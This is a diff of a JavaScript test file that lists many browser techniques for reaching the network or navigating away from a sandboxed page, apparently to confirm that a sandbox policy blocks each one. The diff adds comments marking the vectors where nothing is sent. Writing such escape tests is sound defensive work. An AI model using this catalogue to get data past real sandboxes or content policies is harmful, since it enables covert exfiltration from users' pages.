@@ -1,4 +1,5 @@
-// Every way out we know of, each by itself. `vector`: the page stays; `leaving`: it may be gone afterwards.
+// Every way out we know of, each by itself. `vector`: the page stays; `leaving`: it may be gone afterwards. Each must
+// arrive where there is no policy, except those marked `silent`: there the browser itself sends nothing, as the mark says.
 'use strict';
 
 const VECTORS = new Map();
@@ -23,7 +24,7 @@ vector('fetch', (t) => fetch(t.url, { mode: 'no-cors' }));
 vector('fetch-ip', (t) => fetch(t.ip, { mode: 'no-cors' }));
 vector('fetch-post', (t) => fetch(t.url, { method: 'POST', body: 'x', mode: 'no-cors' }));
 vector('fetch-keepalive', (t) => fetch(t.url, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }));
-vector('fetch-later', async (t) => { fetchLater(t.url, { activateAfter: 0, mode: 'no-cors' }); });
+vector('fetch-later', async (t) => { fetchLater(t.https, { activateAfter: 0, mode: 'no-cors' }); });
 vector('xhr', (t) => new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', t.url); x.onloadend = done; x.send(); }));
 vector('xhr-sync', async (t) => { const x = new XMLHttpRequest(); x.open('GET', t.url, false); x.send(); });
 vector('beacon', async (t) => { navigator.sendBeacon(t.url, 'x'); });
@@ -32,7 +33,7 @@ vector('websocket', async (t) => { new WebSocket(t.ws).onerror = () => {}; });
 vector('websocket-stream', (t) => new WebSocketStream(t.ws).opened);
 vector('web-transport', (t) => new WebTransport(`https://${t.host}:${t.udp}/`).ready);
 vector('cache-add', async (t) => (await caches.open('x')).add(new Request(t.url, { mode: 'no-cors' })));
-vector('background-fetch', async (t) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [t.url]));
+vector('background-fetch', async (t) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [t.url])); // silent: it wants a service worker of the page, and a person's consent
 vector('dynamic-import', (t) => import(t.url));
 vector('import-map', async (t) => { t.add(`<script type="importmap">{"imports":{"evil":"${t.url}"}}<\/script>`); await import('evil'); });
 vector('json-module', (t) => import(t.url, { with: { type: 'json' } }));
@@ -42,7 +43,7 @@ vector('audio-worklet', (t) => new OfflineAudioContext(1, 1, 44100).audioWorklet
 vector('paint-worklet', (t) => CSS.paintWorklet.addModule(t.url));
 vector('media-source-fetch', async (t) => { const a = new Audio(t.url); a.play().catch(() => {}); await loaded(a); });
 vector('image-object', (t) => { const i = new Image(); i.src = t.url; return loaded(i); });
-vector('media-session', async (t) => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: t.url }] }); });
+vector('media-session', async (t) => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: t.url }] }); }); // silent: without a screen nobody shows the picture
 
 // Requests by markup and style.
 vector('img', (t) => loaded(t.add(`<img src="${t.url}">`)));
@@ -65,11 +66,11 @@ vector('video-track', async (t) => { t.add(`<video crossorigin src="data:video/m
 vector('object', (t) => loaded(t.add(`<object data="${t.url}"></object>`)));
 vector('embed', (t) => loaded(t.add(`<embed src="${t.url}">`)));
 vector('svg-image', async (t) => { t.add(`<svg><image href="${t.url}" width="9" height="9"/></svg>`); });
-vector('svg-use', async (t) => { t.add(`<svg><use href="${t.url}#x"/></svg>`); });
+vector('svg-use', async (t) => { t.add(`<svg><use href="${t.url}#x"/></svg>`); }); // silent: from another origin it is never loaded
 vector('svg-fe-image', async (t) => { t.add(`<svg width="9" height="9"><filter id="fe"><feImage href="${t.url}"/></filter><rect width="9" height="9" filter="url(#fe)"/></svg>`); });
 vector('svg-foreign', async (t) => { t.add(`<svg><foreignObject width="9" height="9"><img src="${t.url}"></foreignObject></svg>`); });
-vector('manifest', async (t) => { t.add(`<link rel="manifest" href="${t.url}">`); });
-vector('icon', async (t) => { document.head.append(t.add(`<link rel="icon" href="${t.url}">`)); });
+vector('manifest', async (t) => { t.add(`<link rel="manifest" href="${t.url}">`); }); // silent: without a screen nobody can install
+vector('icon', async (t) => { document.head.append(t.add(`<link rel="icon" href="${t.url}">`)); }); // silent: without a screen nobody shows it
 vector('xslt', async (t) => { const frame = t.add('<iframe></iframe>'); frame.src = URL.createObjectURL(new Blob([`<?xml-stylesheet type="text/css" href="${t.url}"?><a/>`], { type: 'text/xml' })); await loaded(frame); });
 
 // Hints.
@@ -81,8 +82,8 @@ vector('prefetch', async (t) => { document.head.append(t.add(`<link rel="prefetc
 vector('preload', async (t) => { document.head.append(t.add(`<link rel="preload" as="fetch" crossorigin href="${t.url}">`)); });
 vector('preload-image', async (t) => { document.head.append(t.add(`<link rel="preload" as="image" href="${t.url}">`)); });
 vector('module-preload', async (t) => { document.head.append(t.add(`<link rel="modulepreload" href="${t.url}">`)); });
-vector('speculation-prefetch', async (t) => { document.head.append(t.add(`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${t.url}"],"eagerness":"immediate"}]}<\/script>`)); });
-vector('speculation-prerender', async (t) => { document.head.append(t.add(`<script type="speculationrules">{"prerender":[{"source":"list","urls":["${t.url}"],"eagerness":"immediate"}]}<\/script>`)); });
+vector('speculation-prefetch', async (t) => { document.head.append(t.add(`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${t.https}"],"eagerness":"immediate"}]}<\/script>`)); }); // silent: in a frame nothing is loaded ahead
+vector('speculation-prerender', async (t) => { document.head.append(t.add(`<script type="speculationrules">{"prerender":[{"source":"list","urls":["${t.https}"],"eagerness":"immediate"}]}<\/script>`)); }); // silent: in a frame nothing is loaded ahead
 
 // Other realms: frames and workers, with and without the policy of a response of their own.
 vector('worker', async (t) => { new Worker(`tell.js?${encodeURIComponent(t.url)}`); });
@@ -90,7 +91,7 @@ vector('worker-blob', async (t) => { new Worker(URL.createObjectURL(new Blob([`f
 vector('worker-data', async (t) => { new Worker(`data:text/javascript,${encodeURIComponent(`fetch("${t.url}",{mode:"no-cors"})`)}`); });
 vector('worker-import-scripts', async (t) => { new Worker(URL.createObjectURL(new Blob([`importScripts("${t.url}")`]))); });
 vector('worker-websocket', async (t) => { new Worker(URL.createObjectURL(new Blob([`new WebSocket("${t.ws}")`]))); });
-vector('worker-remote', async (t) => { new Worker(t.url); });
+vector('worker-remote', async (t) => { new Worker(t.url); }); // silent: a worker is of its own origin
 vector('shared-worker', async (t) => { new SharedWorker(`tell.js?${encodeURIComponent(t.url)}`).port.start(); });
 vector('shared-worker-blob', async (t) => { new SharedWorker(URL.createObjectURL(new Blob([`fetch("${t.url}",{mode:"no-cors"})`]))).port.start(); });
 vector('own-service-worker', (t) => navigator.serviceWorker.register(`own-worker.js?to=${encodeURIComponent(t.url)}`, { scope: '/sub/' }));
@@ -100,14 +101,14 @@ vector('frame-srcdoc-sandboxed', async (t) => { t.add('<iframe sandbox="allow-sc
 vector('frame-blob', async (t) => { t.add('<iframe></iframe>').src = URL.createObjectURL(new Blob([pages(reach(t.url))], { type: 'text/html' })); });
 vector('frame-data', async (t) => { t.add('<iframe></iframe>').src = `data:text/html,${encodeURIComponent(pages(reach(t.url)))}`; });
 vector('frame-blank', async (t) => { t.add('<iframe></iframe>').contentWindow.eval(reach(t.url)); });
-vector('frame-javascript', async (t) => { t.add('<iframe></iframe>').src = `javascript:${reach(t.url)}`; });
+vector('frame-javascript', async (t) => { t.add('<iframe></iframe>').src = `javascript:${reach(t.url)};void 0`; });
 vector('frame-of-missing-file', async (t) => { const frame = t.add('<iframe src="/missing"></iframe>'); await loaded(frame); frame.contentWindow.eval(reach(t.url)); });
 vector('frame-of-webxdc-js', async (t) => { const frame = t.add('<iframe src="/webxdc.js"></iframe>'); await loaded(frame); frame.contentWindow.eval(reach(t.url)); });
 vector('frame-of-own-page', async (t) => { const frame = t.add('<iframe src="/inner.html"></iframe>'); await loaded(frame); frame.contentWindow.eval(reach(t.url)); });
 vector('frame-of-keeper', async (t) => { const frame = t.add('<iframe src="/__estuary__/keeper.html"></iframe>'); await loaded(frame); frame.contentWindow.eval(reach(t.url)); });
 vector('frame-of-wrong-method', async (t) => { const frame = t.add('<iframe name="posted"></iframe>'); t.add('<form method="post" action="/x" target="posted"></form>').submit(); await loaded(frame); frame.contentWindow.eval(reach(t.url)); });
 vector('frame-elsewhere', async (t) => { t.add('<iframe></iframe>').contentWindow.location = t.url; });
-vector('fenced-frame', async (t) => { const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(t.url); document.body.append(f); });
+vector('fenced-frame', async (t) => { const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(t.url); document.body.append(f); }); // silent: it wants an enrolled origin
 
 // Calls. The constructor from wherever one can be had.
 vector('stun', (t) => call(RTCPeerConnection, t, stun(t)));
@@ -137,12 +138,12 @@ vector('ice-candidate', async (t) => {
 vector('ping', async (t) => { const a = t.add(`<a href="#x" ping="${t.url}">x</a>`); a.click(); });
 vector('payment', (t) => new PaymentRequest([{ supportedMethods: t.https }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment());
 vector('fedcm', (t) => navigator.credentials.get({ identity: { providers: [{ configURL: t.https, clientId: 'x' }] } }));
-vector('attribution', async (t) => { t.add(`<img attributionsrc="${t.url}">`); });
-vector('shared-storage', (t) => sharedStorage.worklet.addModule(t.url));
-vector('interest-group', (t) => navigator.joinAdInterestGroup({ owner: `https://${t.host}`, name: 'x', lifetimeMs: 9e6 }));
-vector('csp-report', async (t) => { document.head.append(t.add(`<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${t.url}">`)); t.add('<img src="x.png">'); });
-vector('notification', async (t) => { if (await Notification.requestPermission() === 'granted') new Notification('x', { icon: t.url }); });
-vector('push', async () => (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65) }));
+vector('attribution', async (t) => { t.add(`<img attributionsrc="${t.url}">`); }); // silent: it wants an enrolled origin
+vector('shared-storage', (t) => sharedStorage.worklet.addModule(t.url)); // silent: it wants an enrolled origin
+vector('interest-group', (t) => navigator.joinAdInterestGroup({ owner: `https://${t.host}`, name: 'x', lifetimeMs: 9e6 })); // silent: it wants an enrolled origin
+vector('csp-report', async (t) => { document.head.append(t.add(`<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${t.url}">`)); t.add('<img src="x.png">'); }); // silent: a policy in the page reports nowhere
+vector('notification', async (t) => { if (await Notification.requestPermission() === 'granted') new Notification('x', { icon: t.url }); }); // silent: nobody grants it
+vector('push', async () => (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65) })); // silent: it wants a push service, and a person's consent
 
 // Going elsewhere.
 leaving('location', async (t) => { location = t.url; });
@@ -165,6 +166,6 @@ leaving('top-location', async (t) => { top.location = t.url; });
 leaving('parent-location', async (t) => { parent.location.replace(t.url); });
 leaving('navigation-api', async (t) => { navigation.navigate(t.url); });
 leaving('javascript-frame', async (t) => { t.add('<iframe></iframe>').src = `javascript:parent.location="${t.url}"`; });
-leaving('protocol-handler', async (t) => { location = `mailto:x@${t.host}`; });
+leaving('protocol-handler', async (t) => { location = `mailto:x@${t.host}`; }); // silent: it leads to another program, and there is none
 leaving('after-unregistering', async (t) => { for (const r of await navigator.serviceWorker.getRegistrations()) await r.unregister(); sessionStorage.next = t.url; location.reload(); });
-leaving('navigation-preload', async (t) => { const r = await navigator.serviceWorker.ready; await r.navigationPreload.enable(); location = t.url; });
+leaving('navigation-preload', async (t) => { const r = await navigator.serviceWorker.ready; await r.navigationPreload.enable(); location = t.url; }); // silent: there is no service worker to load ahead of
